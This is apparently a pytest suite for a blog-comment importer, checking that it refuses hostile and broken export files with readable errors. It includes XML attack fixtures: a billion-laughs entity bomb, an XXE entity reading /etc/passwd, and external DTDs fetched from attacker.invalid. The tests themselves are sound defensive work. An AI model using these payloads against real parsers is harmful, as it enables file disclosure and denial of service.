"""Hostile and broken input: each either refuses a record with a reason or stops the whole
file with one readable ImportFileError; none loops, explodes or leaks a traceback."""

from __future__ import annotations

import gzip
import io
import json
import sqlite3
from datetime import UTC, datetime
from pathlib import Path

import pytest

from moderation.porting import (
    CommentRecord,
    ImportFileError,
    ReadOptions,
    RefusalReason,
    Status,
    StatusMapError,
    parse_status_map,
    read,
    read_disqus,
    read_isso,
    read_jsonl,
    read_remark42,
    read_wxr,
)
from moderation.porting.dates import parse_datetime
from tests.porting_support import FIXTURES, collect, make_isso_database

pytestmark = pytest.mark.any_database

WXR_HEAD = (
    '<?xml version="1.0" encoding="UTF-8"?>\n'
    '<rss version="2.0" xmlns:wp="http://wordpress.org/export/1.2/"><channel>'
    "<wp:wxr_version>1.2</wp:wxr_version>"
    "<item><title>Post</title><link>https://blog.example.com/post/</link>"
    "<wp:post_id>1</wp:post_id>"
)
WXR_TAIL = "</item></channel></rss>\n"


def wxr_comment(
    comment_id: str,
    text: str = "Hello",
    *,
    parent: str = "0",
    approved: str = "1",
    date: str = "2026-11-02 10:00:00",
) -> str:
    """One ``<wp:comment>``; an empty argument leaves its element out."""
    parts = [f"<wp:comment_id>{comment_id}</wp:comment_id>"] if comment_id else []
    if text:
        parts.append(f"<wp:comment_content><![CDATA[{text}]]></wp:comment_content>")
    if date:
        parts.append(f"<wp:comment_date_gmt>{date}</wp:comment_date_gmt>")
    parts += [
        f"<wp:comment_approved>{approved}</wp:comment_approved>",
        f"<wp:comment_parent>{parent}</wp:comment_parent>",
    ]
    return f"<wp:comment>{''.join(parts)}</wp:comment>"


def wxr(*comments: str) -> bytes:
    """A small WXR file with ``comments`` on one post."""
    return (WXR_HEAD + "".join(comments) + WXR_TAIL).encode()


def write(tmp_path: Path, name: str, data: bytes) -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE rss [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol9 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><item><title>&lol9;</title>
<wp:comment><wp:comment_id>1</wp:comment_id><wp:comment_content>&lol9;</wp:comment_content>
</wp:comment></item></channel></rss>
"""
XXE = """<?xml version="1.0"?>
<!DOCTYPE rss [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<rss xmlns:wp="http://wordpress.org/export/1.2/"><channel><item>
<wp:comment><wp:comment_id>1</wp:comment_id><wp:comment_content>&secret;</wp:comment_content>
</wp:comment></item></channel></rss>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE disqus SYSTEM "http://attacker.invalid/evil.dtd">
<disqus xmlns="http://disqus.com"></disqus>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!-- an innocent comment first -->
<!DOCTYPE disqus [<!ENTITY % remote SYSTEM "http://attacker.invalid/x.dtd"> %remote;]>
<disqus xmlns="http://disqus.com"></disqus>
"""


class TestDocumentTypes:
    @pytest.mark.parametrize(
        ("fmt", "document"),
        [
            ("wxr", BILLION_LAUGHS),
            ("wxr", XXE),
            ("disqus", EXTERNAL_DTD),
            ("disqus", PARAMETER_ENTITY),
        ],
        ids=["billion-laughs", "xxe", "external-dtd", "parameter-entity"],
    )
    def test_any_dtd_refuses_the_file_before_anything_is_expanded(
        self, tmp_path: Path, fmt: str, document: str
    ) -> None:
        path = write(tmp_path, "hostile.xml", document.encode())
        with pytest.raises(ImportFileError, match=r"declares a document type .*refused"):
            list(read(fmt, path))

    def test_a_dtd_after_64_kib_of_prolog_is_still_seen(self, tmp_path: Path) -> None:
        padding = "<!-- " + "x" * (200 * 1024) + " -->\n"
        document = XXE.replace("<!DOCTYPE", padding + "<!DOCTYPE", 1)
        with pytest.raises(ImportFileError, match="document type"):
            list(read_wxr(write(tmp_path, "padded.xml", document.encode())))

    def test_an_undeclared_entity_is_a_syntax_error(self, tmp_path: Path) -> None:
        data = wxr(
            wxr_comment("1"), "<wp:comment><wp:comment_id>&nbsp;</wp:comment_id></wp:comment>"
        )
        with pytest.raises(
            ImportFileError, match=r"line 2, column \d+, after comment 1: undefined entity"
        ):
            list(read_wxr(write(tmp_path, "entity.xml", data)))


class TestBrokenFiles:
    def test_bytes_that_are_not_utf8_are_named_with_their_offset(self, tmp_path: Path) -> None:
        data = wxr(wxr_comment("1", "fine"), wxr_comment("2", "caf\u00e9")).replace(
            "café".encode(), b"caf\xe9"
        )
        path = write(tmp_path, "latin1.xml", data)
        items = read_wxr(path)
        with pytest.raises(ImportFileError) as caught:
            list(items)
        message = str(caught.value)
        assert f"at byte {data.index(b'caf') + 3:,}" in message
        assert "after comment 1" in message
        assert "iconv" in message

    def test_replies_waiting_for_parents_past_the_break_are_counted(self, tmp_path: Path) -> None:
        data = wxr(wxr_comment("1"), wxr_comment("3", parent="2"), wxr_comment("2"))
        path = write(tmp_path, "cut.xml", data[: data.index(b"<wp:comment_id>2") + 20])
        seen = []
        with pytest.raises(ImportFileError, match=r"cut short.* 1 replies read before"):
            seen.extend(read_wxr(path))
        assert [item.source_id for item in seen if isinstance(item, CommentRecord)] == ["1"]

    @pytest.mark.parametrize(
        ("declared", "codec", "text"),
        [
            ("ISO-8859-1", "latin-1", "café"),
            ("windows-1252", "cp1252", "café “quoted”"),
            ("UTF-16", "utf-16", "日本語 ☕"),
        ],
    )
    def test_declared_encodings_read_fine(
        self, tmp_path: Path, declared: str, codec: str, text: str
    ) -> None:
        data = wxr(wxr_comment("1", text)).replace(
            b'encoding="UTF-8"', f'encoding="{declared}"'.encode()
        )
        path = write(tmp_path, "encoded.xml", data.decode().encode(codec))
        assert collect(read_wxr(path)).comments["1"].text == text

    def test_a_file_cut_short_says_so_after_yielding_what_it_had(self, tmp_path: Path) -> None:
        data = wxr(*(wxr_comment(str(n)) for n in range(1, 4)))
        path = write(tmp_path, "cut.xml", data[: data.index(b"<wp:comment_id>3") + 20])
        seen = []
        with pytest.raises(
            ImportFileError, match=r"ends in the middle.*after comment 2.*cut short"
        ):
            seen.extend(read_wxr(path))
        assert [getattr(item, "source_id", None) for item in seen][-2:] == ["1", "2"]

    @pytest.mark.parametrize(
        ("fmt", "data", "message"),
        [
            ("wxr", b"", "The file is empty"),
            (
                "wxr",
                b"<rss><channel><item><title>x</title></item></channel></rss>",
                "not a WordPress export",
            ),
            ("wxr", b"\x89PNG\r\n\x1a\n\x00\x00", "does not start as XML"),
            ("disqus", (FIXTURES / "wordpress-1.0.xml").read_bytes(), "not a Disqus export"),
            ("remark42", b"", "empty"),
            ("remark42", b'{"id": "1", "text": "hi"}\n', "first line should be the metadata"),
            ("remark42", b'{"version": 7}\n', "version 7"),
            ("jsonl", b'{"format": "something-else"}\n', "not a moderation export"),
            ("jsonl", b'{"format": "moderation-export", "version": 2}\n', "version 2, newer"),
            ("commento", b"[1, 2]", "not a Commento export"),
            ("commento", b"{not json", "not JSON"),
        ],
    )
    def test_not_the_format(self, tmp_path: Path, fmt: str, data: bytes, message: str) -> None:
        with pytest.raises(ImportFileError, match=message):
            list(read(fmt, write(tmp_path, "file", data)))

    def test_a_json_line_that_is_not_utf8_is_refused_by_number(self, tmp_path: Path) -> None:
        meta = json.dumps({"version": 1}).encode()
        good = json.dumps(
            {
                "id": "ok",
                "text": "fine",
                "user": {"name": "A"},
                "locator": {"url": "https://blog.example.com/p/"},
                "time": "2026-11-02T10:00:00Z",
            }
        ).encode()
        bad = good.replace(b'"fine"', b'"caf\xe9"').replace(b'"ok"', b'"bad"')
        result = collect(
            read_remark42(write(tmp_path, "mixed.jsonl", b"\n".join([meta, bad, good])))
        )
        assert [r.detail for r in result.refusals] == ["line 2: not UTF-8 at byte 26"]
        assert list(result.comments) == ["ok"]

    def test_isso_needs_a_path(self) -> None:
        with pytest.raises(ImportFileError, match="read from a path"):
            list(read("isso", io.BytesIO(b"SQLite format 3")))

    def test_a_damaged_gzip_file(self, tmp_path: Path) -> None:
        packed = gzip.compress((FIXTURES / "remark42.jsonl").read_bytes())
        path = write(tmp_path, "backup.gz", packed[: len(packed) // 2])
        with pytest.raises(ImportFileError, match="compressed file is damaged"):
            list(read_remark42(path))

    def test_isso_files_that_are_not_isso_databases(self, tmp_path: Path) -> None:
        with pytest.raises(ImportFileError, match="not an SQLite database"):
            list(read_isso(write(tmp_path, "text.db", b"hello, this is text" * 100)))
        empty = tmp_path / "empty.db"
        sqlite3.connect(empty).close()
        with pytest.raises(ImportFileError, match="table 'threads' is missing"):
            list(read_isso(empty))
        with pytest.raises(ImportFileError, match="is not a file"):
            list(read_isso(tmp_path / "missing.db"))


class TestHugeRecords:
    def test_a_10_mb_comment_is_refused_and_the_rest_read(self, tmp_path: Path) -> None:
        huge = "x" * (10 * 1024 * 1024)
        data = wxr(wxr_comment("1"), wxr_comment("2", huge), wxr_comment("3", parent="2"))
        result = collect(read_wxr(write(tmp_path, "huge.xml", data)))
        assert result.refused() == {"2": "text too long"}
        assert result.refusals[0].detail == "10,485,760 characters; the limit is 65,525"
        assert result.parents()["3"] is None
        assert result.comments["3"].notes == (
            "reply to 2, which was refused: kept as a top-level comment",
        )

    def test_a_10_mb_comment_in_json_lines(self, tmp_path: Path) -> None:
        meta = json.dumps({"version": 1, "users": [], "posts": []})
        line = json.dumps(
            {
                "id": "big",
                "text": "é" * 10_000_000,
                "user": {"name": "Big"},
                "locator": {"url": "https://blog.example.com/p/"},
                "time": "2026-11-02T10:00:00Z",
            }
        )
        path = write(tmp_path, "big.jsonl", f"{meta}\n{line}\n".encode())
        assert collect(read_remark42(path)).refused() == {"big": "text too long"}

    def test_a_line_over_the_limit_is_skipped_without_being_held(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr("moderation.porting.jsonlines.MAX_LINE_BYTES", 3 << 20)
        meta = json.dumps({"version": 1})
        after = json.dumps(
            {
                "id": "after",
                "text": "still read",
                "user": {"name": "A"},
                "locator": {"url": "https://blog.example.com/p/"},
                "time": "2026-11-02T10:00:00Z",
            }
        )
        data = f"{meta}\n{'x' * (5 << 20)}\n{after}\n".encode()
        result = collect(read_remark42(write(tmp_path, "long.jsonl", data)))
        assert result.refusals[0].detail == "line 2: longer than 3 MiB"
        assert list(result.comments) == ["after"]

    def test_a_flood_of_elements_in_one_record_refuses_the_file(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr("moderation.porting.xmlstream.MAX_RECORD_EVENTS", 20_000)
        flood = "<wp:comment><wp:comment_id>1</wp:comment_id>" + "<x/>" * 100_000
        data = (WXR_HEAD + flood + "</wp:comment>" + WXR_TAIL).encode()
        with pytest.raises(ImportFileError, match=r"No record ends .* built to exhaust memory"):
            list(read_wxr(write(tmp_path, "flood.xml", data)))

    def test_deep_nesting_refuses_the_file(
        self, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.setattr("moderation.porting.xmlstream.MAX_RECORD_EVENTS", 20_000)
        depth = 30_000
        data = (WXR_HEAD + "<a>" * depth + "</a>" * depth + WXR_TAIL).encode()
        with pytest.raises(ImportFileError, match="No record ends"):
            list(read_wxr(write(tmp_path, "deep.xml", data)))


class TestReplyCycles:
    def test_loops_are_refused_and_what_hangs_from_them_kept(self, tmp_path: Path) -> None:
        data = wxr(
            wxr_comment("1"),
            wxr_comment("201", parent="202"),
            wxr_comment("202", parent="201"),
            wxr_comment("203", parent="203"),
            wxr_comment("204", parent="201"),
            wxr_comment("205", parent="204"),
            wxr_comment("2", parent="1"),
        )
        result = collect(read_wxr(write(tmp_path, "cycles.xml", data)))
        assert result.refused() == {
            "201": "reply cycle",
            "202": "reply cycle",
            "203": "reply cycle",
        }
        details = {r.source_id: r.detail for r in result.refusals}
        assert details["203"] == "the comment answers itself"
        assert details["201"] == "replies form a loop: 201 → 202 → 201"
        assert result.parents() == {"1": None, "2": "1", "204": None, "205": "204"}
        assert result.comments["204"].notes == (
            "reply to 201, which is in a reply cycle: kept as a top-level comment",
        )

    def test_a_long_loop_across_a_whole_disqus_file_ends(self, tmp_path: Path) -> None:
        size = 3000
        posts = "".join(
            f'<post dsq:id="{n}"><message>m</message><createdAt>2026-11-02T10:00:00Z</createdAt>'
            f'<thread dsq:id="1"/><parent dsq:id="{(n + 1) % size}"/></post>'
            for n in range(size)
        )
        document = (
            '<?xml version="1.0"?><disqus xmlns="http://disqus.com" '
            'xmlns:dsq="http://disqus.com/disqus-internals">'
            '<thread dsq:id="1"><link>https://blog.example.com/a/</link><title>A</title></thread>'
            f"{posts}</disqus>"
        )
        result = collect(read_disqus(write(tmp_path, "loop.xml", document.encode())))
        assert len(result.refusals) == size
        assert {r.reason for r in result.refusals} == {RefusalReason.REPLY_CYCLE}
        assert result.refusals[0].detail.endswith("→ …")

    def test_duplicate_ids_keep_the_first(self, tmp_path: Path) -> None:
        data = wxr(wxr_comment("1", "first"), wxr_comment("1", "second"))
        result = collect(read_wxr(write(tmp_path, "dupes.xml", data)))
        assert result.comments["1"].text == "first"
        assert result.refused() == {"1": "duplicate id"}


class TestMissingFields:
    @pytest.mark.parametrize(
        ("comment", "refused", "detail"),
        [
            (wxr_comment(""), None, "the comment has no id"),
            (wxr_comment("5", text=""), "5", "the comment has no text"),
            (wxr_comment("6", date=""), "6", "the comment has no date"),
            (wxr_comment("7", date="yesterday"), "7", "date 'yesterday' cannot be read"),
            (wxr_comment("8", approved=""), "8", "status '' is not in the status map"),
        ],
    )
    def test_refused_with_the_field_named(
        self, tmp_path: Path, comment: str, refused: str | None, detail: str
    ) -> None:
        result = collect(read_wxr(write(tmp_path, "missing.xml", wxr(comment))))
        assert [r.source_id for r in result.refusals] == [refused]
        assert result.refusals[0].detail.startswith(detail)

    def test_a_deleted_comment_may_lack_text_and_date(self, tmp_path: Path) -> None:
        data = wxr(wxr_comment("9", text="", date="", approved="trash"))
        comment = collect(read_wxr(write(tmp_path, "placeholder.xml", data))).comments["9"]
        assert comment.status is Status.DELETED
        assert comment.created_at == datetime(1970, 1, 1, tzinfo=UTC)

    def test_a_post_without_link_or_id_refuses_its_comments(self, tmp_path: Path) -> None:
        data = WXR_HEAD.replace("<link>https://blog.example.com/post/</link>", "").replace(
            "<wp:post_id>1</wp:post_id>", ""
        )
        result = collect(
            read_wxr(write(tmp_path, "nolink.xml", (data + wxr_comment("1") + WXR_TAIL).encode()))
        )
        assert result.refused() == {"1": "no usable thread"}


class TestStatusMaps:
    def test_overrides_are_merged_over_the_format_map(self, tmp_path: Path) -> None:
        data = wxr(
            wxr_comment("1", approved="1"),
            wxr_comment("2", approved="trash"),
            wxr_comment("3", approved="held-for-review"),
        )
        path = write(tmp_path, "statuses.xml", data)
        overrides = parse_status_map("trash=rejected, held-for-review=pending")
        result = collect(read_wxr(path, ReadOptions(status_overrides=overrides)))
        assert result.statuses() == {"1": "approved", "2": "rejected", "3": "pending"}
        assert result.comments["3"].source_status == "held-for-review"

    def test_the_wildcard_maps_every_unknown_status(self, tmp_path: Path) -> None:
        data = wxr(wxr_comment("1", approved="weird"), wxr_comment("2", approved="spam"))
        options = ReadOptions(status_overrides=parse_status_map("*=pending"))
        result = collect(read_wxr(write(tmp_path, "wild.xml", data), options))
        assert result.statuses() == {"1": "pending", "2": "spam"}

    def test_our_own_export_maps_statuses_to_themselves(self, tmp_path: Path) -> None:
        lines = [
            {"format": "moderation-export", "version": 1},
            {"type": "thread", "key": "k"},
            {
                "type": "comment",
                "id": "1",
                "thread": "k",
                "text": "t",
                "status": "rejected",
                "created_at": "2026-11-02T10:00:00Z",
            },
            {
                "type": "comment",
                "id": "2",
                "thread": "k",
                "text": "t",
                "status": "maybe",
                "created_at": "2026-11-02T10:00:00Z",
            },
            {"type": "end", "threads": 1, "comments": 2},
        ]
        data = "".join(json.dumps(line) + "\n" for line in lines).encode()
        result = collect(read_jsonl(write(tmp_path, "export.jsonl", data)))
        assert result.statuses() == {"1": "rejected"}
        assert result.refused() == {"2": "unknown status"}

    @pytest.mark.parametrize(
        ("text", "message"),
        [
            ("trash", "'trash' is not SOURCE=STATUS"),
            ("=spam", "'=spam' is not SOURCE=STATUS"),
            ("0=maybe", "'maybe' in '0=maybe' is not a status; use one of approved, pending"),
        ],
    )
    def test_bad_maps_are_explained(self, text: str, message: str) -> None:
        with pytest.raises(StatusMapError, match=message):
            parse_status_map(text)

    def test_an_empty_map_is_no_overrides(self) -> None:
        assert parse_status_map("") == {}
        assert parse_status_map("0=PENDING,") == {"0": Status.PENDING}


class TestJsonlIntegrity:
    def head(self) -> str:
        return json.dumps({"format": "moderation-export", "version": 1}) + "\n"

    def test_a_file_without_its_closing_line_was_cut_short(self, tmp_path: Path) -> None:
        body = self.head() + json.dumps({"type": "thread", "key": "k"}) + "\n"
        with pytest.raises(ImportFileError, match="cut short"):
            list(read_jsonl(write(tmp_path, "cut.jsonl", body.encode())))

    def test_counts_that_disagree_mean_damage(self, tmp_path: Path) -> None:
        body = self.head() + json.dumps({"type": "end", "threads": 2, "comments": 9}) + "\n"
        with pytest.raises(
            ImportFileError, match="counts 2 threads and 9 comments, but the file has 0 and 0"
        ):
            list(read_jsonl(write(tmp_path, "bad.jsonl", body.encode())))


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("2026-11-02 10:00:00", "2026-11-02T10:00:00+00:00"),
        ("2026-11-02T10:00:00Z", "2026-11-02T10:00:00+00:00"),
        ("2026-11-02T11:00:00+01:00", "2026-11-02T10:00:00+00:00"),
        ("2026-11-02T04:00:00.123456789-06:00", "2026-11-02T10:00:00.123456+00:00"),
        ("2026-11-02 10:00:00 UTC", "2026-11-02T10:00:00+00:00"),
        ("Mon, 02 Nov 2026 10:00:00 +0000", "2026-11-02T10:00:00+00:00"),
        ("1793613600", "2026-11-02T10:00:00+00:00"),
        ("1793613600000", "2026-11-02T10:00:00+00:00"),
        ("2026/11/02 10:00:00", "2026-11-02T10:00:00+00:00"),
        ("02.11.2026 10:00:00", "2026-11-02T10:00:00+00:00"),
        ("  2026-11-02  ", "2026-11-02T00:00:00+00:00"),
    ],
)
def test_dates_in_odd_formats(text: str, expected: str) -> None:
    parsed = parse_datetime(text)
    assert parsed is not None and parsed.isoformat() == expected
    assert parsed.tzinfo is UTC


@pytest.mark.parametrize(
    "text",
    [
        "",
        "0000-00-00 00:00:00",
        "0001-01-01T00:00:00Z",
        "soon",
        "2026-13-45",
        "99999999999999",
        "nan",
    ],
)
def test_dates_that_are_not_dates(text: str) -> None:
    assert parse_datetime(text) is None


def test_isso_timestamps_out_of_range_are_refused(tmp_path: Path) -> None:
    database = make_isso_database(tmp_path / "comments.db")
    connection = sqlite3.connect(database)
    connection.execute("UPDATE comments SET created = 1e300 WHERE id = 1")
    connection.commit()
    connection.close()
    assert collect(read_isso(database)).refused()["1"] == "unreadable date"
